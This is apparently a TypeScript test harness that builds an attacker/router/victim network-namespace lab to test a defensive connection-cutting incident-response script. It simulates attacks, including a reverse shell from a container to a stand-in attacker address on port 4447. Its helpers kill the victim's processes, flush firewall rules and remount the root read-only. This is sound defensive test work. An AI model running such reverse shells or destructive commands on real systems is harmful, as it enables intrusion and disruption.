import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  type HostEvidenceLine,
  type HostFlowLine,
  type HostVerdictLine,
  parseHostOutput,
} from '../../functions/core/host/host-protocol.ts';

/**
 * Attacker, VPC router and victim, each in a network namespace of its own. The runner has put *us* into PID, mount and network
 * namespaces first, so nothing here, and no script under test, can see a process or a socket of the machine.
 *
 *     attacker 198.51.100.7, 2001:db8:a::7, and the agent's endpoint 203.0.113.5
 *         | "outside"
 *     router: security group = conntrack in forward; network ACL = raw prerouting and postrouting, stateless
 *         | "subnet"
 *     victim 10.0.1.10, 2001:db8:1::10, with process ids, mounts and /usr of its own; a container's namespace "pod" inside
 */
export const ATTACKER = '198.51.100.7';
export const ATTACKER_V6 = '2001:db8:a::7';
export const AGENT_ENDPOINT = '203.0.113.5';
export const VICTIM = '10.0.1.10';

const root = new URL('../../', import.meta.url).pathname;
export const SCRIPT = `${root}documents/flowcut-host-linux.sh`;
export const PEERS = `${root}test/kernel/peers.py`;
const PYTHON = '/usr/bin/python3';

export interface PeerEvent {
  readonly kind: string;
  readonly port: number;
  readonly t: number;
  readonly held?: number;
}

export interface Packet {
  readonly t: number;
  readonly text: string;
}

export interface TrackedEntry {
  readonly state: string;
  readonly seconds: number;
}

export interface CutResult {
  readonly flows: readonly HostFlowLine[];
  readonly processes?: readonly HostEvidenceLine[];
  readonly verdict: HostVerdictLine;
  readonly raw: string;
  readonly startedAt: number;
  readonly seconds: number;
}

type Verb = 'list' | 'cut' | 'verify' | 'undo' | 'close-agent';

export interface ScriptOptions {
  readonly shell?: readonly string[];
  readonly remote?: string;
  readonly environment?: Readonly<Record<string, string>>;
}

/** Runs a command and returns its output; a failure is an error that says which. */
export function run(command: readonly string[], input = ''): string {
  const [file = '', ...args] = command;
  const done = spawnSync(file, args, { encoding: 'utf8', input, maxBuffer: 1 << 28 });
  if (done.status !== 0) throw new Error(`${command.join(' ')}: ${done.stderr || String(done.error ?? done.status)}`);
  return done.stdout;
}

const SECURITY_GROUP = `
table inet group {
  chain allowed {
    iifname "subnet" accept
    ct state new tcp dport 22 accept
    meta l4proto { icmp, ipv6-icmp } accept
  }
  chain forward {
    type filter hook forward priority 0; policy drop;
    ct state established,related accept
    jump allowed
  }
}
table inet acl {
  set deny4 { type ipv4_addr; }
  set deny6 { type ipv6_addr; }
  chain in {
    type filter hook prerouting priority -300;
    iifname "outside" ip saddr @deny4 drop
    iifname "outside" ip6 saddr @deny6 drop
  }
  chain out {
    type filter hook postrouting priority 300;
    oifname "outside" tcp flags rst counter
    oifname "outside" ip daddr @deny4 drop
    oifname "outside" ip6 daddr @deny6 drop
  }
}
`;

let labs = 0;

export class Lab {
  readonly events: PeerEvent[] = [];
  readonly packets: Packet[] = [];
  #name: string;
  #children: ChildProcess[] = [];
  #attacker: ChildProcess | undefined;
  #victimInit = 0;
  #hasPod = false;

  constructor() {
    labs += 1;
    this.#name = `lab${labs}`;
  }

  static async start(): Promise<Lab> {
    const lab = new Lab();
    await lab.#build();
    return lab;
  }

  async #build(): Promise<void> {
    const [attacker, router, victim] = [`${this.#name}-attacker`, `${this.#name}-router`, `${this.#name}-victim`];
    for (const name of [attacker, router, victim]) {
      run(['ip', 'netns', 'add', name]);
      run(['ip', '-n', name, 'link', 'set', 'lo', 'up']);
    }
    run(['ip', '-n', router, 'link', 'add', 'outside', 'type', 'veth', 'peer', 'name', 'eth0', 'netns', attacker]);
    run(['ip', '-n', router, 'link', 'add', 'subnet', 'type', 'veth', 'peer', 'name', 'eth0', 'netns', victim]);
    const addresses: [string, string, string[]][] = [
      [router, 'outside', ['198.51.100.1/24', '203.0.113.1/24', '2001:db8:a::1/64']],
      [router, 'subnet', ['10.0.1.1/24', '2001:db8:1::1/64']],
      [attacker, 'eth0', [`${ATTACKER}/24`, `${AGENT_ENDPOINT}/24`, `${ATTACKER_V6}/64`]],
      [victim, 'eth0', [`${VICTIM}/24`, '2001:db8:1::10/64']],
    ];
    for (const [name, link, list] of addresses) {
      for (const address of list)
        run(['ip', '-n', name, 'addr', 'add', address, 'dev', link, ...(address.includes(':') ? ['nodad'] : [])]);
      run(['ip', '-n', name, 'link', 'set', link, 'up']);
    }
    for (const [name, four, six] of [
      [attacker, '198.51.100.1', '2001:db8:a::1'],
      [victim, '10.0.1.1', '2001:db8:1::1'],
    ] as const) {
      run(['ip', '-n', name, 'route', 'add', 'default', 'via', four]);
      run(['ip', '-n', name, '-6', 'route', 'add', 'default', 'via', six]);
    }
    run(['ip', 'netns', 'exec', router, 'sysctl', '-qw', 'net.ipv4.ip_forward=1', 'net.ipv6.conf.all.forwarding=1']);
    run(['ip', 'netns', 'exec', router, 'nft', '-f', '-'], SECURITY_GROUP);

    await this.#startVictim(victim);
    this.#capture(attacker);
    this.#attacker = this.#spawn(['ip', 'netns', 'exec', attacker, PYTHON, '-u', PEERS, 'attacker'], (line) =>
      this.events.push(JSON.parse(line) as PeerEvent),
    );
    await this.until('the attacker listens', () => this.events.some(({ kind }) => kind === 'ready'));
  }

  /** A machine of its own: process ids, mounts, an overlay on /usr in which tools may come and go, and the agent. */
  async #startVictim(netns: string): Promise<void> {
    const scratch = `/run/${this.#name}`;
    mkdirSync(scratch);
    const setup = [
      `mount -t tmpfs tmpfs ${scratch}`,
      `mkdir ${scratch}/upper ${scratch}/work`,
      `mount -t overlay overlay -o lowerdir=/usr,upperdir=${scratch}/upper,workdir=${scratch}/work /usr`,
      'mount -t tmpfs tmpfs /run',
      'cp "$(readlink -f /usr/bin/python3)" /usr/bin/amazon-ssm-agent',
      'sysctl -qw net.ipv4.ip_forward=1',
      'echo ready',
      'exec sleep infinity',
    ].join(' && ');
    let ready = false;
    const child = this.#spawn(
      [
        'ip',
        'netns',
        'exec',
        netns,
        'unshare',
        '--mount',
        '--pid',
        '--fork',
        '--mount-proc',
        '--kill-child',
        'sh',
        '-c',
        setup,
      ],
      (line) => {
        ready ||= line === 'ready';
      },
    );
    await this.until('the victim is up', () => ready);
    const pid = readdirSync('/proc').find((entry) => /^\d+$/.test(entry) && parentOf(entry) === child.pid);
    if (pid === undefined) throw new Error('the victim has no first process');
    this.#victimInit = Number(pid);
  }

  /** Packets that reach the attacker's interface from the victim, as tcpdump prints them. */
  #capture(netns: string): void {
    this.#spawn(
      [
        'ip',
        'netns',
        'exec',
        netns,
        'tcpdump',
        '-n',
        '-tt',
        '-l',
        '-U',
        '--immediate-mode',
        '-i',
        'eth0',
        'inbound and (tcp or udp or icmp)',
      ],
      (line) => this.packets.push({ t: Number.parseFloat(line), text: line }),
    );
  }

  #spawn(command: readonly string[], onLine: (line: string) => void): ChildProcess {
    const [file = '', ...args] = command;
    const child = spawn(file, args, { stdio: ['pipe', 'pipe', process.env['LAB_DEBUG'] ? 'inherit' : 'ignore'] });
    this.#children.push(child);
    let rest = '';
    child.stdout?.on('data', (chunk: Buffer) => {
      const lines = (rest + chunk.toString()).split('\n');
      rest = lines.pop() ?? '';
      for (const line of lines) onLine(line);
    });
    return child;
  }

  #inVictim(command: readonly string[]): string[] {
    return ['nsenter', '-t', String(this.#victimInit), '-n', '-m', '-p', '--wd=/', ...command];
  }

  /** Runs a command on the victim and returns its output. */
  victim(command: string): string {
    return run(this.#inVictim(['sh', '-c', command]));
  }

  /** Starts one of the processes of peers.py on the victim. */
  start(what: string, ...args: readonly (string | number)[]): ChildProcess {
    return this.#startWith(PYTHON, what, ...args);
  }

  #startWith(python: string, what: string, ...args: readonly (string | number)[]): ChildProcess {
    return this.#spawn(this.#inVictim([python, '-u', PEERS, what, ...args.map(String)]), (line) =>
      this.events.push(JSON.parse(line) as PeerEvent),
    );
  }

  /** Ends every process of the victim but its first and the agent, stopped ones too. */
  endProcesses(): void {
    this.victim(
      'for p in $(ls /proc | grep -x "[0-9]*"); do [ "$p" -gt 1 ] && [ "$p" != $$ ] && case $(readlink /proc/$p/exe) in */amazon-ssm-agent) ;; *) kill -KILL "$p" ;; esac; done 2>/dev/null; true',
    );
  }

  startShell(command: string): void {
    this.#spawn(this.#inVictim(['sh', '-c', command]), () => undefined);
  }

  startAgent(endpoint = AGENT_ENDPOINT, what: 'agent' | 'lasting_agent' = 'agent'): void {
    this.#spawn(this.#inVictim(['/usr/bin/amazon-ssm-agent', '-u', PEERS, what, endpoint, '443']), () => undefined);
  }

  /** Puts the lab's Python at another path of the victim, whose processes it then is. */
  copyPython(path: string): string {
    this.victim(`mkdir -p ${path.replace(/\/[^/]*$/, '')} && cp "$(readlink -f ${PYTHON})" ${path}`);
    return path;
  }

  /** Takes back what a cut denied on the victim, for the next run of a measurement; `undo` is tested elsewhere. */
  dropRules(): void {
    this.victim(
      'nft delete table inet flowcut_case-1 2>/dev/null; for t in iptables ip6tables; do "$t" -F 2>/dev/null; done; true',
    );
  }

  /** Full disks and read-only roots. The checkout may lie in one of the folders: it is kept aside and put back under its path. */
  fillDisk(): void {
    const documents = dirname(SCRIPT);
    this.victim(`mount --bind ${documents} /mnt`);
    this.victim(
      'for d in /tmp /var/tmp /dev/shm; do mount -t tmpfs -o size=4k tmpfs $d; head -c 100000 /dev/zero > $d/full; done 2>/dev/null; true',
    );
    this.victim(`[ -e ${SCRIPT} ] || { mkdir -p ${documents} && mount --bind /mnt ${documents}; }`);
    this.victim(
      'mount -o remount,bind,ro / && mount -o remount,ro /usr && ! touch /usr/x 2>/dev/null && ! touch /x 2>/dev/null',
    );
  }

  /** Is a process of this name (its first argument) running on the victim? */
  running(name: string): boolean {
    return this.victim(`grep -lsa '^${name}' /proc/[0-9]*/cmdline || true`).trim() !== '';
  }

  /** A shell in a container on the victim: a namespace of its own behind the victim's address, made at the first one. */
  startPodShell(): void {
    if (!this.#hasPod) this.#makePod();
    this.#spawn(
      this.#inVictim(['ip', 'netns', 'exec', 'pod', PYTHON, '-u', PEERS, 'reverse_shell', ATTACKER, '4447']),
      () => undefined,
    );
  }

  #makePod(): void {
    this.#hasPod = true;
    this.victim(
      [
        'ip netns add pod',
        'ip link add veth0 type veth peer name eth0 netns pod',
        'ip addr add 172.18.0.1/24 dev veth0 && ip link set veth0 up',
        'ip -n pod addr add 172.18.0.2/24 dev eth0 && ip -n pod link set eth0 up && ip -n pod link set lo up',
        'ip -n pod route add default via 172.18.0.1',
        'nft add table ip nat',
        "nft 'add chain ip nat post { type nat hook postrouting priority 100 ; }'",
        'nft add rule ip nat post ip saddr 172.18.0.0/24 masquerade',
      ].join(' && '),
    );
  }

  /** The attacker logs in on the victim's port 22, at a server whose executable is this one. */
  async dialIn(server = PYTHON): Promise<void> {
    const before = this.mark();
    this.#startWith(server, 'login_server', VICTIM, 22);
    await this.until('the login server listens', () => this.events.slice(before).some(({ kind }) => kind === 'ready'));
    this.redial();
  }

  redial(): void {
    this.#attacker?.stdin?.write(`dial ${VICTIM} 22\n`);
  }

  /** Can the victim open a new connection? */
  canDial(address: string, port: number): boolean {
    return run(this.#inVictim([PYTHON, PEERS, 'try_dial', address, String(port)])).includes('connected');
  }

  /** The swap to a group without rules; what is tracked goes on. */
  swapGroup(): void {
    this.router(['nft', 'flush', 'chain', 'inet', 'group', 'allowed']);
  }

  /** The groups are put back: what the subnet opens may leave again. */
  restoreGroup(): void {
    this.router(['nft', 'add', 'rule', 'inet', 'group', 'allowed', 'iifname', 'subnet', 'accept']);
  }

  aclDeny(): void {
    this.router(['nft', 'add', 'element', 'inet', 'acl', 'deny4', `{ ${ATTACKER} }`]);
    this.router(['nft', 'add', 'element', 'inet', 'acl', 'deny6', `{ ${ATTACKER_V6} }`]);
  }

  aclLift(): void {
    this.router(['nft', 'flush', 'set', 'inet', 'acl', 'deny4']);
    this.router(['nft', 'flush', 'set', 'inet', 'acl', 'deny6']);
  }

  router(command: readonly string[]): string {
    return run(['ip', 'netns', 'exec', `${this.#name}-router`, ...command]);
  }

  /** What the security group tracks of the flow to this port: state and seconds left, or null. */
  tracked(port: number, entries = this.trackedEntries()): TrackedEntry | null {
    const line = entries.find((text) => text.includes(`dport=${port} `));
    const match = line === undefined ? null : /^tcp\s+6\s+(\d+)\s+(\S+)/.exec(line);
    return match === null ? null : { state: match[2] ?? '', seconds: Number(match[1]) };
  }

  /** The TCP entries of the security group, as conntrack prints them. */
  trackedEntries(): readonly string[] {
    return ['ipv4', 'ipv6'].flatMap((family) =>
      this.router(['conntrack', '-L', '-f', family, '-p', 'tcp']).split('\n'),
    );
  }

  /** Every TCP entry that has not ended. */
  trackedEstablished(): string[] {
    return this.trackedEntries().filter((line) => line.includes('ESTABLISHED') && !line.includes(AGENT_ENDPOINT));
  }

  /** Data that reached the attacker (or, for the login, the attacker's end) since a moment. */
  dataSince(port: number, seconds: number): number {
    let count = 0;
    // From the end: a lab that stands for long has very many.
    for (let at = this.events.length - 1; at >= 0; at -= 1) {
      const event = this.events[at];
      // Threads print beside each other: an event may stand a little before an older one.
      if (event === undefined || event.t < seconds - 1) break;
      if (event.kind === 'data' && event.port === port && event.t >= seconds) count += 1;
    }
    return count;
  }

  /** How many events there were: what comes after it is new. */
  mark(): number {
    return this.events.length;
  }

  /** Waits until the attacker has accepted a connection, after a mark. */
  async accepted(port: number, after = 0): Promise<void> {
    await this.until(`a connection to ${port}`, () =>
      this.events.slice(after).some(({ kind, port: at }) => kind === 'accepted' && at === port),
    );
  }

  sawReset(port: number): boolean {
    return this.events.some(({ kind, port: at }) => kind === 'reset' && at === port);
  }

  /** The last packet of a flow that reached the attacker; the port is the attacker's, or the victim's 22. */
  lastPacket(port: number): number {
    const mark = port === 22 ? `.${port} > ` : `.${port}: `;
    return this.packets.findLast(({ text }) => text.includes(mark))?.t ?? 0;
  }

  /** Echo requests that reached the attacker since a moment. */
  echoesSince(seconds: number): number {
    return this.packets.filter(({ t, text }) => t >= seconds && text.includes('ICMP echo request')).length;
  }

  /** The last echo request that reached the attacker. */
  lastEcho(): number {
    return this.packets.findLast(({ text }) => text.includes('ICMP echo request'))?.t ?? 0;
  }

  async alive(...ports: readonly number[]): Promise<void> {
    const from = now();
    // A first SYN that is lost on a busy machine is sent again after 1, 2, 4, 8, 16 and 32 s.
    for (const port of ports) await this.until(`flow ${port} is alive`, () => this.dataSince(port, from) > 1, 75);
  }

  async until(what: string, test: () => boolean, seconds = 10): Promise<void> {
    const end = now() + seconds;
    while (!test()) {
      if (now() > end) throw new Error(`waited ${seconds} s: ${what}`);
      await sleep(20);
    }
  }

  #scriptCommand(verb: string, { shell = ['sh'], remote = ATTACKER, environment = {} }: ScriptOptions): string[] {
    const variables = {
      SSM_Verb: verb,
      SSM_CaseId: 'case-1',
      SSM_RemoteAddresses: remote,
      SSM_Pids: 'none',
      ...environment,
    };
    return this.#inVictim([
      'env',
      ...Object.entries(variables).map(([name, value]) => `${name}=${value}`),
      ...shell,
      SCRIPT,
    ]);
  }

  #parse(verb: Verb, raw: string, startedAt: number): CutResult {
    const report = parseHostOutput(raw, { verb, caseId: 'case-1' });
    if (report.kind !== 'evidence') throw new Error(`${report.reason}: ${raw.slice(0, 500)}`);
    return { ...report, raw, startedAt, seconds: now() - startedAt };
  }

  /** Runs our script on the victim, as the agent would, and reads its output as the responder does. */
  script(verb: Verb, options: ScriptOptions = {}): CutResult {
    const startedAt = now();
    return this.#parse(verb, run(this.#scriptCommand(verb, options)), startedAt);
  }

  /** Runs the commands of a document with nothing in the environment, as an older agent would. */
  document(verb: 'cut', commands: string): CutResult {
    const startedAt = now();
    return this.#parse(
      verb,
      run(this.#inVictim(['sh', '-c', 'cat > /run/_script.sh && exec sh /run/_script.sh']), commands),
      startedAt,
    );
  }

  /** Its raw output and exit status, for what must not be believed. */
  scriptRaw(verb: string, options: ScriptOptions = {}): { readonly status: number | null; readonly stdout: string } {
    const [file = '', ...args] = this.#scriptCommand(verb, options);
    const { status, stdout } = spawnSync(file, args, { encoding: 'utf8' });
    return { status, stdout };
  }

  /** The script, twice or more at once, each in a process of its own. */
  async scriptsAtOnce(verb: 'cut', times: number, options: ScriptOptions = {}): Promise<CutResult[]> {
    const startedAt = now();
    const one = () =>
      new Promise<string>((resolve) => {
        const [file = '', ...args] = this.#scriptCommand(verb, options);
        const child = spawn(file, args, { stdio: ['ignore', 'pipe', 'ignore'] });
        let output = '';
        child.stdout.on('data', (chunk: Buffer) => {
          output += chunk.toString();
        });
        child.on('close', () => resolve(output));
      });
    const outputs = await Promise.all(Array.from({ length: times }, one));
    return outputs.map((raw) => this.#parse(verb, raw, startedAt));
  }

  stop(): void {
    for (const child of this.#children) child.kill('SIGKILL');
    if (this.#victimInit > 0) spawnSync('kill', ['-KILL', String(this.#victimInit)]);
    for (const end of ['attacker', 'router', 'victim']) spawnSync('ip', ['netns', 'del', `${this.#name}-${end}`]);
  }
}

export const now = (): number => Date.now() / 1000;

function parentOf(pid: string): number {
  try {
    return Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]);
  } catch {
    return Number.NaN;
  }
}
